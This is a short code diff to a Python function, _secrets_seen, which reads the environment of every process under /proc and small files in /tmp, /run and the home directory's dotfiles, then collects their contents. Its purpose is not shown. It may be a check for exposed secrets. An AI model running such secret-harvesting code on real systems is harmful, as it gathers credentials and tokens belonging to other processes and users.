@@ -53,11 +53,12 @@ def _secrets_seen():
     for pid in os.listdir("/proc"):
         if pid.isdigit():
             try:
-                seen[f"proc{pid}"] = Path(f"/proc/{pid}/environ").read_bytes().decode("replace")
+                seen[f"proc{pid}"] = Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace")
             except OSError:
                 pass
-    for folder in ("/tmp", "/run", "/root", "/home"):
-        for path in list(Path(folder).rglob("*"))[:200] if Path(folder).exists() else []:
+    folders = [Path("/tmp").rglob("*"), Path("/run").rglob("*"), Path.home().glob(".*")]
+    for found in folders:
+        for path in list(found)[:200]:
             try:
                 if path.is_file() and path.stat().st_size < 100_000:
                     seen[str(path)] = path.read_text("utf-8", "replace")
